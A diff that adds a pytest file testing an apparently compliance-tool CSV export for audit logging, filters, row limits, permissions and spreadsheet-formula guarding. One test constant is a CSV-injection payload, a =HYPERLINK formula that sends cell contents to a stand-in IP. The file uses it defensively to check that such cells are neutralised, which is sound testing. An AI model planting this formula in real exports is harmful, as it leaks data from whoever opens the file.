@@ -1,0 +1,160 @@
+"""Tables leave as CSV: the rows of the screens, only what the reader may export, safe cells, and an entry in the audit trail each time."""
+
+import csv
+import hashlib
+import io
+import re
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import httpx
+import pytest
+from fastapi import FastAPI
+from sqlmodel import select, text
+
+from plumbline.audit.models import AuditEntry
+from plumbline.database import session_scope
+from plumbline.reports import tables
+from plumbline.reports.cells import csv_bytes, guarded
+from tests.api.conftest import Ask
+from tests.api.test_rights import operations
+from tests.api.world import World
+
+FORMULA = '=HYPERLINK("http://192.0.2.1/"&A1)'
+
+
+def rows_of(answer: httpx.Response) -> list[dict[str, str]]:
+    assert answer.status_code == 200, answer.text
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
+    assert re.fullmatch(r'attachment; filename="plumbline-[\w.-]+\.csv"', answer.headers["content-disposition"])
+    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
+
+
+def acts(table: str) -> list[AuditEntry]:
+    with session_scope() as session:
+        found = session.exec(select(AuditEntry).where(AuditEntry.action == "table.exported").order_by(AuditEntry.id))  # type: ignore[arg-type]
+        return [entry for entry in found if entry.after and entry.after["table"] == table]
+
+
+def test_every_table_leaves_by_the_one_door_and_is_written_down(ask: Ask, app: FastAPI, world: World) -> None:
+    named = {"host_id": world.hosts["sql-01"], "pack": "plumbline-core", "rule": "core.paths.two_healthy", "run_id": "999999"}
+    exports = [(name, path) for name, _, path in operations(app) if "/exports/" in path]
+    assert len(exports) >= 18
+    with session_scope() as session:
+        before = session.scalar(text("SELECT count(*) FROM audit_entry WHERE action = 'table.exported'"))  # type: ignore[call-overload]
+    for name, path in exports:
+        answer = ask("viewer", "GET", re.sub(r"\{(\w+)\}", lambda found: named[found[1]], path))
+        if name == "export_run_hosts":
+            assert answer.status_code == 404
+            continue
+        rows_of(answer)
+        with session_scope() as session:
+            entry = session.exec(select(AuditEntry).order_by(AuditEntry.id.desc()).limit(1)).one()  # type: ignore[union-attr]
+        assert (entry.action, entry.actor.split()[-1]) == ("table.exported", "viewer"), name
+        assert entry.after is not None
+        assert entry.after["sha256"] == hashlib.sha256(answer.content).hexdigest(), name
+    with session_scope() as session:
+        after = session.scalar(text("SELECT count(*) FROM audit_entry WHERE action = 'table.exported'"))  # type: ignore[call-overload]
+    assert after - before == len(exports) - 1
+
+
+def test_rows_are_those_of_the_screen_under_its_filters(ask: Ask, world: World) -> None:
+    shown = ask("viewer", "GET", "/hosts?platform=windows&sort=name&limit=500").json()["items"]
+    rows = rows_of(ask("viewer", "GET", "/exports/hosts.csv?platform=windows&sort=name&limit=1"))
+    assert [(row["host_id"], row["score"], row["fail"]) for row in rows] == [
+        (host["id"], "" if host["score"] is None else str(host["score"]), str(host["n_fail"])) for host in shown
+    ]
+    assert acts("hosts")[-1].after == {
+        "table": "hosts",
+        "rows": len(shown),
+        "filters": [["platform", "windows"], ["sort", "name"], ["limit", "1"]],
+        "sha256": acts("hosts")[-1].after["sha256"],  # type: ignore[index]
+    }
+    host = world.hosts["sql-01"]
+    findings = ask("viewer", "GET", f"/hosts/{host}/findings").json()["items"]
+    rows = rows_of(ask("viewer", "GET", f"/exports/hosts/{host}/findings.csv"))
+    assert [(row["rule"], row["subject_id"], row["standing"]) for row in rows] == [
+        (each["rule"], each["subject"]["id"], each["standing"]) for each in findings
+    ]
+    entry = acts("findings")[-1]
+    assert (entry.object_kind, entry.object_id, entry.group_id) == ("host", host, world.groups["prod_b"])
+    score = ask("viewer", "GET", f"/hosts/{host}/score").json()
+    rows = rows_of(ask("viewer", "GET", f"/exports/hosts/{host}/score.csv"))
+    assert int(100 - sum(float(row["points_lost"]) for row in rows) + 1e-9) == score["uncapped"]
+    for row in rows:
+        weight = float(row["band_points"]) * float(row["strength_factor"]) * float(row["fit"]) if row["source"] else 1.0
+        assert float(row["weight"]) == pytest.approx(weight), row["rule"]
+
+
+def test_a_long_list_is_whole_and_one_past_the_limit_is_refused(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(tables, "PAGE", 2)
+    total = ask("viewer", "GET", "/hosts?limit=1").json()["total"]
+    assert len(rows_of(ask("viewer", "GET", "/exports/hosts.csv"))) == total > 2
+    monkeypatch.setattr(tables, "MOST_ROWS", total - 1)
+    written = len(acts("hosts"))
+    answer = ask("viewer", "GET", "/exports/hosts.csv")
+    assert (answer.status_code, answer.json()["code"]) == (422, "too_many_rows")
+    assert "narrow the filters" in answer.json()["detail"]
+    assert len(acts("hosts")) == written
+
+
+def test_only_what_one_may_export_leaves(ask: Ask, world: World) -> None:
+    everywhere = rows_of(ask("viewer", "GET", "/exports/hosts.csv"))
+    theirs = rows_of(ask("prod-viewer", "GET", "/exports/hosts.csv"))
+    assert {row["host"] for row in theirs} == {"sql-01", "sql-02", "esx-01"} < {row["host"] for row in everywhere}
+    outside = world.hosts["lab-01"]
+    assert ask("prod-viewer", "GET", f"/exports/hosts/{outside}/settings.csv").status_code == 404
+    assert ask("prod-viewer", "GET", f"/exports/matrix.csv?group={world.groups['lab']}").status_code == 404
+    # One who reads everything as operator and exports PROD-B as viewer takes along PROD-B alone.
+    with session_scope() as session:
+        session.execute(
+            text("INSERT INTO \"grant\" (person_id, role, group_id) VALUES (:who, 'viewer', :group)"),
+            {"who": world.people["operator"], "group": world.groups["prod_b"]},
+        )
+    try:
+        assert {row["host"] for row in rows_of(ask("operator", "GET", "/exports/hosts.csv"))} == {"sql-01", "sql-02", "esx-01"} & {
+            host["name"] for host in ask("operator", "GET", f"/hosts?group={world.groups['prod_b']}").json()["items"]
+        }
+        assert ask("operator", "GET", f"/hosts/{outside}/settings").status_code == 200
+        refused = ask("operator", "GET", f"/exports/hosts/{outside}/settings.csv")
+        assert (refused.status_code, "table.export" in refused.json()["detail"]) == (403, True)
+        assert ask("operator", "GET", f"/exports/drift.csv?group={world.groups['lab']}").status_code == 403
+    finally:
+        with session_scope() as session:
+            session.execute(text("DELETE FROM \"grant\" WHERE person_id = :who AND role = 'viewer'"), {"who": world.people["operator"]})
+
+
+def test_waivers_keep_their_state_and_reasons_are_no_formulas(ask: Ask, world: World) -> None:
+    host = world.hosts["sql-01"]
+    failing = next(each for each in ask("viewer", "GET", f"/hosts/{host}/findings").json()["items"] if each["standing"] == "fail")
+    asked: dict[str, Any] = {
+        "pack": failing["pack"],
+        "rule": failing["rule"],
+        "host_ids": [host],
+        "reason": FORMULA,
+        "expires_at": (datetime.now(UTC) + timedelta(days=5)).isoformat(),
+    }
+    made = ask("operator", "POST", "/waivers", json=asked).json()
+    assert ask("approver", "POST", f"/waivers/{made['id']}/approve").status_code == 200
+    row = next(each for each in rows_of(ask("viewer", "GET", "/exports/waivers.csv")) if each["id"] == str(made["id"]))
+    assert row["reason"] == f"'{FORMULA}"
+    assert (row["state"], row["approved_by"], row["findings_waived_now"] != "0") == ("active", "Approver", True)
+    waived = rows_of(ask("viewer", "GET", f"/exports/hosts/{host}/findings.csv"))
+    # The outcome stays what it is; the waiver stands beside it.
+    assert {(each["outcome"], each["standing"]) for each in waived if each["waiver"] == str(made["id"])} == {("fail", "waived")}
+    with session_scope() as session:
+        session.execute(text("UPDATE waiver SET expires_at = now() - interval '1 second' WHERE id = :id"), {"id": made["id"]})
+    row = next(each for each in rows_of(ask("viewer", "GET", "/exports/waivers.csv")) if each["id"] == str(made["id"]))
+    assert row["state"] == "expired"
+    assert rows_of(ask("viewer", "GET", "/exports/waivers.csv?state=active")) == []
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@x", "\tx", "  =1", "＝1"])
+def test_no_text_is_a_formula(cell: str) -> None:
+    assert guarded(cell).startswith("'")
+    assert guarded(-3) == "-3"
+    line = csv_bytes([[["plain", cell], {"reason": cell}, True, None, datetime(2026, 11, 22, tzinfo=UTC)]]).decode("utf-8-sig")
+    first, record, *rest = next(csv.reader(io.StringIO(line)))
+    assert first == f"plain; '{cell}"
+    assert record.startswith("{")
+    assert rest == ["yes", "", "2026-11-22T00:00:00Z"]
